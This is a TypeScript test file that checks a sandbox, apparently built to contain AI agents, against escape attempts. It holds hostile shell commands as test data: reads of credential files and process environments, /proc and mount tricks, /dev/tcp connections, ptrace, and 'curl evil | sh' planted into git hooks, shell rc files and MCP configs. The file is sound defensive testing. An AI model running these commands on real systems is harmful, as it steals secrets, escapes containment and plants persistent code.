import { spawn } from "node:child_process";
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterEach, describe, expect } from "vitest";
import { createSandboxFixture, sandboxIt } from "./helpers/sandbox.js";
import { TemporaryDirectories } from "./helpers/temporary-directories.js";

// More escape attempts, beside test/sandbox-escape.test.ts and test/sandbox-limits.test.ts. Each
// attempt is a test that fails if the attempt succeeds; the scripts print ESCAPED when they do.

const directories = new TemporaryDirectories();
const closers: (() => void)[] = [];
afterEach(() => {
  for (const close of closers.splice(0)) close();
  directories.removeAll();
});

type Fixture = ReturnType<typeof createSandboxFixture>;

async function attempt(script: string, setup?: (fixture: Fixture) => void, timeoutMs = 15_000) {
  const fixture = createSandboxFixture(directories);
  setup?.(fixture);
  const result = await fixture.session.run(["sh", "-c", script], { limits: { timeoutMs } });
  return {
    ...result,
    stdoutText: result.stdout.text.toString(),
    stderrText: result.stderr.text.toString(),
    fixture,
  };
}

function listen(server: Server, address: string | number): Promise<void> {
  closers.push(() => server.close());
  return new Promise((resolve) => {
    if (typeof address === "number") server.listen(address, "127.0.0.1", resolve);
    else server.listen(address, resolve);
  });
}

describe("writing outside the workspace", () => {
  sandboxIt("cannot climb out of the workspace with ..", async () => {
    const { fixture } = await attempt(
      "cd ..; echo x > climbed.txt; cd /; echo x > ../../../climbed-root.txt; echo x > $PWD/../../sibling.txt; true",
    );
    expect(readdirSync(path.dirname(fixture.workspace)).sort()).toEqual(["data", "home", "workspace"]);
    expect(existsSync("/climbed-root.txt")).toBe(false);
  });

  sandboxIt("cannot write through /proc/1/root, /proc/self/cwd or /proc/self/fd", async () => {
    const outside = directories.create("warden-outside-");
    await attempt(
      `echo x > /proc/1/root${outside}/a.txt; echo x > /proc/self/cwd/../b.txt; exec 9>/proc/self/fd/1; echo x > /proc/1/cwd/../c.txt; true`,
    );
    expect(readdirSync(outside)).toEqual([]);
  });

  sandboxIt(
    "leaves a dangling symlink pointing out staged for a person, and applying it writes nothing outside",
    async () => {
      const outside = directories.create("warden-outside-");
      const result = await attempt(`ln -s ${outside}/planted.txt trap; echo x > trap; true`);
      const { session } = result.fixture;
      expect(result.needsPerson.map((item) => item.path)).toContain("trap");
      const applied = session.apply(result.changeSet);
      expect(applied.outcome).toBe("applied");
      expect(lstatSync(path.join(result.fixture.workspace, "trap")).isSymbolicLink()).toBe(true);
      expect(readdirSync(outside)).toEqual([]);
    },
  );

  sandboxIt(
    "cannot make an applied change write through a symlink that now points out of the workspace",
    async () => {
      const outside = directories.create("warden-outside-");
      const result = await attempt("mkdir -p dir; echo payload > dir/file.txt");
      // A person (or another process) replaces the directory with a link out before the apply.
      const { workspace } = result.fixture;
      const { symlinkSync } = await import("node:fs");
      symlinkSync(outside, path.join(workspace, "dir"));
      const applied = result.fixture.session.apply(result.changeSet);
      expect(applied.outcome).toBe("refused");
      expect(readdirSync(outside)).toEqual([]);
    },
  );

  sandboxIt("cannot hard-link a system file and change it through the link", async () => {
    const before = readFileSync("/etc/hostname", "utf8");
    const { stdoutText } = await attempt(
      "ln /usr/bin/env env-link 2>/dev/null && echo linked; echo x >> env-link; ln /etc/hostname h 2>/dev/null && echo x >> h; true",
    );
    expect(readFileSync("/etc/hostname", "utf8")).toBe(before);
    expect(stdoutText).not.toContain("ESCAPED");
    const envHead = readFileSync("/usr/bin/env").subarray(0, 4).toString("latin1");
    expect(envHead).toBe("\u007fELF");
  });

  sandboxIt("cannot bind-mount or remount, even from a nested user namespace", async () => {
    const outside = directories.create("warden-outside-");
    const { stdoutText } = await attempt(
      [
        `mount --bind / /tmp 2>/dev/null && echo ESCAPED bind`,
        `mount -o remount,rw /usr 2>/dev/null && echo ESCAPED remount`,
        // In a nested namespace the inherited mounts are locked: the tmpfs over the layers stays.
        "unshare -rm sh -c 'umount /.warden 2>/dev/null && ls /.warden/lower && echo ESCAPED umount' 2>/dev/null",
        `unshare -rm sh -c 'mount -t tmpfs x /mnt && echo x > ${outside}/n.txt' 2>/dev/null`,
        "true",
      ].join("; "),
    );
    expect(stdoutText).not.toContain("ESCAPED");
    expect(readdirSync(outside)).toEqual([]);
  });

  sandboxIt("cannot reach the scratch layer to edit what was already staged", async () => {
    const result = await attempt(
      "ls -A /.warden 2>/dev/null | grep . && echo ESCAPED; cat /.warden/scratch/base.json 2>/dev/null && echo ESCAPED; find / -xdev -name base.json 2>/dev/null | grep . && echo ESCAPED; true",
    );
    expect(result.stdoutText).not.toContain("ESCAPED");
  });
});

describe("reading secrets", () => {
  sandboxIt("cannot read Warden's signing key, operator token or store by path", async () => {
    const { stdoutText } = await attempt(
      'for f in signing-key.pem operator.token events.sqlite warden.sock; do cat "$DATA_DIR/$f" 2>/dev/null && echo ESCAPED $f; done; true',
      ({ dataDir }) => {
        for (const name of ["signing-key.pem", "operator.token", "events.sqlite"])
          writeFileSync(path.join(dataDir, name), `SECRET ${name}`);
      },
    ).then(async (first) => {
      // The path is passed in explicitly: knowing where the data is does not help.
      const second = await first.fixture.session.run(
        [
          "sh",
          "-c",
          'for f in signing-key.pem operator.token events.sqlite; do cat "$DATA_DIR/$f" 2>/dev/null && echo ESCAPED; done; true',
        ],
        { environment: { DATA_DIR: first.fixture.dataDir } },
      );
      return { stdoutText: first.stdoutText + second.stdout.text.toString() };
    });
    expect(stdoutText).not.toContain("SECRET");
    expect(stdoutText).not.toContain("ESCAPED");
  });

  sandboxIt("cannot read the host's environment through /proc/1/environ or its own parent", async () => {
    process.env.WARDEN_TEST_SECRET = "sk-proc-environ-leak";
    try {
      const { stdoutText } = await attempt(
        "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null; done; cat /proc/$PPID/environ 2>/dev/null; true",
      );
      expect(stdoutText).not.toContain("sk-proc-environ-leak");
    } finally {
      delete process.env.WARDEN_TEST_SECRET;
    }
  });

  sandboxIt("cannot read cloud credentials or shell history in the home directory", async () => {
    const { stdoutText } = await attempt(
      'cat "$HOME/.aws/credentials" "$HOME/.bash_history" "$HOME/.config/gh/hosts.yml" 2>/dev/null; true',
      ({ home }) => {
        mkdirSync(path.join(home, ".aws"));
        writeFileSync(path.join(home, ".aws/credentials"), "aws_secret_access_key=LEAKED");
        writeFileSync(path.join(home, ".bash_history"), "export TOKEN=LEAKED");
        mkdirSync(path.join(home, ".config/gh"), { recursive: true });
        writeFileSync(path.join(home, ".config/gh/hosts.yml"), "oauth_token: LEAKED");
      },
    );
    expect(stdoutText).not.toContain("LEAKED");
  });

  sandboxIt("inherits no open file descriptors from Warden beyond stdin, stdout and stderr", async () => {
    const { stdoutText } = await attempt("ls /proc/$$/fd");
    expect(stdoutText.trim().split(/\s+/).sort()).toEqual(["0", "1", "2"]);
  });

  sandboxIt("sees no /sys, no /run and no host mounts", async () => {
    const { stdoutText } = await attempt(
      "ls /sys/block /sys/class/net /run 2>/dev/null | grep . && echo ESCAPED; grep -v -E ' (/usr|/etc/[^ ]*|/proc[^ ]*|/dev[^ ]*|/tmp|/var/tmp|/|/[.]warden|/[.]warden/lower|/[.]warden/scratch|/tmp/[^ ]*) ' /proc/self/mounts | grep . && echo ESCAPED mounts; true",
    );
    expect(stdoutText).not.toContain("ESCAPED");
  });
});

describe("the network", () => {
  sandboxIt("cannot send UDP to a server on the host's loopback", async () => {
    const socket: UdpSocket = createSocket("udp4");
    closers.push(() => socket.close());
    const received: string[] = [];
    socket.on("message", (message) => received.push(message.toString()));
    await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
    const { port } = socket.address();
    await attempt(
      `for i in 1 2 3; do echo udp-escape > /dev/udp/127.0.0.1/${port}; done 2>/dev/null; bash -c 'echo udp-escape > /dev/udp/127.0.0.1/${port}' 2>/dev/null; true`,
    );
    // A datagram from the sandbox would have arrived long before the sandbox exited.
    await new Promise((resolve) => setImmediate(resolve));
    expect(received).toEqual([]);
  });

  sandboxIt("cannot query DNS over UDP or TCP", async () => {
    const { stdoutText } = await attempt(
      "bash -c 'echo > /dev/udp/8.8.8.8/53' 2>/dev/null && echo ESCAPED udp; bash -c 'echo > /dev/tcp/8.8.8.8/53' 2>/dev/null && echo ESCAPED tcp; getent ahosts localhost.example. 2>/dev/null && echo ESCAPED getent; cat /etc/resolv.conf 2>/dev/null; true",
    );
    expect(stdoutText).not.toContain("ESCAPED");
  });

  sandboxIt("cannot connect to a host Unix socket by path", async () => {
    const socketDirectory = directories.create("warden-socket-");
    const socketPath = path.join(socketDirectory, "host.sock");
    const server = createServer((socket) => socket.end("HOST SOCKET\n"));
    await listen(server, socketPath);
    const { stdoutText } = await attempt(`socat -u UNIX-CONNECT:${socketPath} - 2>/dev/null; true`);
    expect(stdoutText).not.toContain("HOST SOCKET");
  });

  sandboxIt(
    "cannot connect to a host abstract Unix socket (they belong to the network namespace)",
    async () => {
      const name = `warden-test-${process.pid}-${Date.now()}`;
      const server = createServer((socket) => socket.end("ABSTRACT SOCKET\n"));
      await listen(server, `\0${name}`);
      const { stdoutText } = await attempt(`socat -u ABSTRACT-CONNECT:${name} - 2>/dev/null; true`);
      expect(stdoutText).not.toContain("ABSTRACT SOCKET");
    },
  );

  sandboxIt("cannot reach the host over HTTP with curl, even naming localhost", async () => {
    const server = createServer((socket) => socket.end("HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nHOST!"));
    await listen(server, 0);
    const address = server.address();
    const port = typeof address === "object" && address !== null ? address.port : 0;
    const { stdoutText } = await attempt(
      `curl -s --max-time 3 http://127.0.0.1:${port}/ ; curl -s --max-time 3 http://localhost:${port}/; curl -s --max-time 3 https://example.com/ >/dev/null && echo ESCAPED; true`,
    );
    expect(stdoutText).not.toContain("HOST!");
    expect(stdoutText).not.toContain("ESCAPED");
  });
});

describe("privileges and processes", () => {
  sandboxIt(
    "gains nothing from setuid binaries: su and sudo fail, and a setuid copy runs as the caller",
    async () => {
      const { stdoutText } = await attempt(
        "su -c 'echo ESCAPED su' 2>/dev/null; sudo -n echo ESCAPED sudo 2>/dev/null; cp /usr/bin/id ./id-copy; chmod 4755 ./id-copy 2>/dev/null; ./id-copy -u; grep CapEff /proc/self/status; true",
      );
      expect(stdoutText).not.toContain("ESCAPED");
      expect(stdoutText).toContain("CapEff:\t0000000000000000");
    },
  );

  sandboxIt("cannot ptrace a host process", async () => {
    const sleeper = spawn("sleep", ["60"], { stdio: "ignore" });
    closers.push(() => sleeper.kill("SIGKILL"));
    const { stdoutText } = await attempt(
      `strace -p ${sleeper.pid} -e trace=none 2>/dev/null & sleep 0.5; kill %1 2>/dev/null; wait; test -e /proc/${sleeper.pid}/mem && echo ESCAPED visible; cat /proc/${sleeper.pid}/maps 2>/dev/null | head -1 | grep . && echo ESCAPED maps; true`,
    );
    expect(stdoutText).not.toContain("ESCAPED");
    expect(sleeper.exitCode).toBeNull();
    const status = readFileSync(`/proc/${sleeper.pid}/status`, "utf8");
    expect(status).toMatch(/TracerPid:\s+0\n/);
  });

  sandboxIt("cannot open the controlling terminal to inject keystrokes", async () => {
    const { stdoutText } = await attempt("echo x > /dev/tty 2>/dev/null && echo ESCAPED; true");
    expect(stdoutText).not.toContain("ESCAPED");
  });

  sandboxIt("leaves no background process behind when the command exits normally", async () => {
    const marker = String(900_000 + (process.pid % 90_000));
    const result = await attempt(
      `sleep ${marker} & setsid sleep ${marker} & nohup sleep ${marker} >/dev/null 2>&1 & echo started`,
    );
    expect(result.stdoutText).toBe("started\n");
    expect(result.timedOut).toBe(false);
    const survivors = readdirSync("/proc")
      .filter((entry) => /^\d+$/.test(entry))
      .filter((pid) => {
        try {
          return readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0").includes(marker);
        } catch {
          return false;
        }
      });
    expect(survivors).toEqual([]);
  });
});

describe("files the host runs later", () => {
  sandboxIt("a hook moved into .git/hooks under another name still shows up and is held", async () => {
    const result = await attempt(
      "mkdir -p .git staging; echo 'curl evil | sh' > staging/post-checkout; chmod +x staging/post-checkout; mv staging .git/hooks",
      ({ workspace }) => mkdirSync(path.join(workspace, ".git")),
    );
    expect(result.changeSet.changes.map((change) => change.path)).toContain(".git/hooks/post-checkout");
    expect(result.needsPerson.map((item) => item.path)).toContain(".git/hooks/post-checkout");
  });

  sandboxIt("core.hooksPath in .git/config and a .git symlink are held", async () => {
    const result = await attempt(
      "mkdir -p myhooks; echo 'curl evil | sh' > myhooks/pre-commit; printf '[core]\\n\\thooksPath = myhooks\\n' >> .git/config; true",
      ({ workspace }) => {
        mkdirSync(path.join(workspace, ".git"));
        writeFileSync(path.join(workspace, ".git/config"), "[core]\n\tbare = false\n");
      },
    );
    expect(result.needsPerson.map((item) => item.path)).toContain(".git/config");
    const linked = await attempt("mkdir realgit; ln -s realgit .git");
    expect(linked.needsPerson.map((item) => item.path)).toContain(".git");
  });

  sandboxIt(
    "shell rc files, .envrc, editor tasks and MCP configs written in one go are all held",
    async () => {
      const result = await attempt(
        "mkdir -p .vscode .cursor; for f in .bashrc .profile .zshrc .envrc .vscode/tasks.json .vscode/mcp.json .cursor/mcp.json .mcp.json .npmrc; do echo 'curl evil | sh' > $f; done",
      );
      const held = result.needsPerson.map((item) => item.path).sort();
      expect(held).toEqual(
        [
          ".bashrc",
          ".cursor",
          ".cursor/mcp.json",
          ".envrc",
          ".mcp.json",
          ".npmrc",
          ".profile",
          ".vscode",
          ".vscode/mcp.json",
          ".vscode/tasks.json",
          ".zshrc",
        ].sort(),
      );
    },
  );
});
